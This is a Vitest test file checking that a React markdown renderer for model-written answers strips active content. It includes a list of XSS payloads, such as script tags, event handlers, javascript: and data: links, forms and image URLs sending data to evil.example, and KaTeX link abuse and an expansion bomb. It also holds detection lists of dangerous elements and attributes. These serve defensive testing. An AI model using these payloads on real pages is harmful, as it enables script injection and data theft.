import { MantineProvider } from '@mantine/core';
import { fireEvent, render, screen } from '@testing-library/react';
import type { ReactNode } from 'react';
import { describe, expect, test } from 'vitest';
import MarkdownText from './markdown-text';

const Wrapper = ({ children }: { children: ReactNode }) => <MantineProvider env="test">{children}</MantineProvider>;

function show(markdown: string): HTMLElement {
  const text = <MarkdownText text={markdown} />;
  return render(<div data-testid="text">{text}</div>, { wrapper: Wrapper }).container.querySelector<HTMLElement>(
    '[data-testid]',
  )!;
}

/** Elements that load, run, style the page or send something. */
const ACTIVE =
  'script, style, link, meta, base, iframe, frame, object, embed, img, picture, source, video, audio, form, button, input, textarea, select, portal, template, foreignObject, image, use, animate, set';
/** Attributes that make a browser fetch something by themselves. */
const FETCHING = ['src', 'srcset', 'poster', 'data', 'background', 'action', 'formaction', 'ping', 'xlink:href'];

/** Everything in what was rendered that could act without a click, or act when clicked in another way than opening an address. */
function dangers(container: HTMLElement): string[] {
  const found = [...container.querySelectorAll(ACTIVE)].map((element) => element.outerHTML);
  for (const element of container.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const style = name === 'style' && /url\(|position\s*:\s*(fixed|sticky)|expression/i.test(value);
      const link = name === 'href' && !/^(https?|mailto):/.test(value);
      if (name.startsWith('on') || FETCHING.includes(name) || style || link) found.push(`${name}="${value}"`);
    }
  }
  return found;
}

const HOSTILE: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['an event handler', '<img src=x onerror=alert(1)> <svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>'],
  ['a frame', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><object data="data:text/html,x"></object>'],
  ['a style element', '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>'],
  ['a form', '<form action=https://evil.example><input name=q><button>Go</button></form>'],
  [
    'a meta refresh and a base',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>',
  ],
  [
    'a script address',
    '[press](javascript:alert(1)) [press](JaVaScRiPt:alert(1)) [press](&#106;avascript:alert(1)) [press](<java\nscript:alert(1)>)',
  ],
  [
    'a data address',
    '[press](data:text/html;base64,PHNjcmlwdD4=) [press](vbscript:x) [press](file:///etc/passwd) [press](blob:https://x/1)',
  ],
  ['a remote image', '![the chart](https://evil.example/?q=secret) ![][1]\n\n[1]: https://evil.example/2 "t"'],
  ['an image of data', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
  ['an image within a link', '[![x](https://evil.example/a.png)](https://evil.example)'],
  ['an address of the app itself', '[settings](#/settings) [up](../x) [root](/x) [other](//evil.example/x)'],
  ['KaTeX: a link', '$$\\href{javascript:alert(1)}{x}$$ $$\\url{https://evil.example}$$'],
  ['KaTeX: an image', '$$\\includegraphics[height=1em]{https://evil.example/x.png}$$'],
  [
    'KaTeX: HTML attributes',
    '$$\\htmlData{a=b}{x} \\htmlStyle{position:fixed}{x} \\htmlClass{c}{x} \\htmlId{root}{x}$$',
  ],
  ['an autolink with a script', '<javascript:alert(1)> www.evil.example"onmouseover=alert(1)'],
  ['a footnote', 'x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))'],
  ['a table with HTML', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
];

describe('what a model wrote can neither run, load nor send', () => {
  test.each(HOSTILE)('%s', (_, markdown) => {
    expect(dangers(show(markdown))).toEqual([]);
  });

  test('the check itself sees what it has to see', () => {
    const container = document.createElement('div');
    container.innerHTML =
      '<img src=x><a href="javascript:1">x</a><p onclick="1" style="background:url(x)">x</p><iframe></iframe>';
    expect(dangers(container).length).toBeGreaterThanOrEqual(5);
  });
});

test('raw HTML is shown as the text it is', () => {
  expect(show('<script>alert(1)</script>').textContent).toContain('<script>alert(1)</script>');
});

test('an image becomes its description', () => {
  expect(show('See ![the ECG](https://evil.example/ecg.png) here').textContent).toBe('See the ECG here');
});

test('a link opens apart, without a way back, and shows where it leads', () => {
  const link = show('[the guideline](https://example.org/g?a=1)').querySelector('a')!;
  expect(link.rel).toBe('noopener noreferrer');
  expect(link.target).toBe('_blank');
  expect(link.textContent).toBe('the guideline (https://example.org/g?a=1)');
});

test('a link that pretends another address shows the real one', () => {
  expect(show('[https://good.example](https://evil.example/)').textContent).toContain('(https://evil.example/)');
});

test('a bare address is shown once', () => {
  expect(show('https://example.org/x').textContent).toBe('https://example.org/x');
});

test('a formula that expands without end is given up, not waited for', () => {
  const bomb = String.raw`$$\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{\e\e}\def\e{\f\f}\def\f{\g\g}\def\g{\a\a}\a$$`;
  expect(show(`before\n\n${bomb}\n\nafter`).textContent).toContain('after');
});

test('tables, code, lists and formulae are rendered', () => {
  const container = show(
    '| K | ECG |\n|---|---|\n| 2.5 | U wave |\n\n```\ncode  kept\n```\n\n- [x] done\n\n\\(K^+\\) costs $5 or $10',
  );
  expect(container.querySelector('table td')?.textContent).toBe('2.5');
  expect(container.querySelector('pre code')?.textContent).toBe('code  kept\n');
  expect(container.querySelector('li')?.textContent).toContain('☑');
  expect(container.querySelector('.katex annotation')?.textContent).toBe('K^+');
  expect(container.textContent).toContain('$5 or $10');
});

test('the headings of an answer stand below those of the page', () => {
  const container = show('# One\n\n## Two');
  expect(container.querySelector('h1, h2')).toBeNull();
  expect(container.querySelector('h3')?.textContent).toBe('One');
});

const rows = (count: number) =>
  `| n | dose |\n|---|---|\n${Array.from({ length: count }, (_, n) => `| ${n} | ${n} mg |`).join('\n')}\n`;

test.each([
  ['rows of a table', rows(600), 'tr', 601],
  ['levels of a list', Array.from({ length: 120 }, (_, n) => `${'  '.repeat(n)}- ${n}`).join('\n'), 'li', 120],
  ['formulae', Array.from({ length: 120 }, (_, n) => `$$x_{${n}}$$\n`).join('\n'), '.katex', 120],
])('many %s are drawn in part, and all of them on wish', (_, markdown, what, count) => {
  const container = show(markdown);
  const drawn = container.querySelectorAll(what).length;
  expect(drawn).toBeGreaterThan(20);
  expect(drawn).toBeLessThan(count);
  fireEvent.click(screen.getByRole('button', { name: /^Show the rest \(\d+ more lines\)$/ }));
  expect(container.querySelectorAll(what)).toHaveLength(count);
  expect(screen.queryByRole('button')).toBeNull();
});

test('a long block among others is drawn in part, with all that follows it', () => {
  const container = show(`before\n\n${rows(120)}\nafter`);
  expect(container.querySelectorAll('tr').length).toBeLessThan(121);
  expect(container.textContent).toContain('after');
  fireEvent.click(screen.getByRole('button'));
  expect(container.querySelectorAll('tr')).toHaveLength(121);
});

test('of a text that grows only the end is drawn anew, and a long end is in sight as it is written', () => {
  const beginning = `${'Long enough. '.repeat(150)}\n\nsecond\n\n`;
  const { container, rerender } = render(<MarkdownText text={`${beginning}third`} live />, { wrapper: Wrapper });
  const paragraphs = [...container.querySelectorAll('p')];
  rerender(<MarkdownText text={`${beginning}third **grows**`} live />);
  const after = [...container.querySelectorAll('p')];
  expect(after.slice(0, 2)).toEqual(paragraphs.slice(0, 2));
  expect(after[0]).toBe(paragraphs[0]);
  expect(container.querySelector('strong')?.textContent).toBe('grows');
  rerender(<MarkdownText text={`${beginning}${rows(600)}`} live />);
  expect(container.querySelectorAll('tr').length).toBeLessThan(600);
  expect(container.textContent).toContain('| 599 | 599 mg |');
  expect(screen.queryByRole('button')).toBeNull();
});
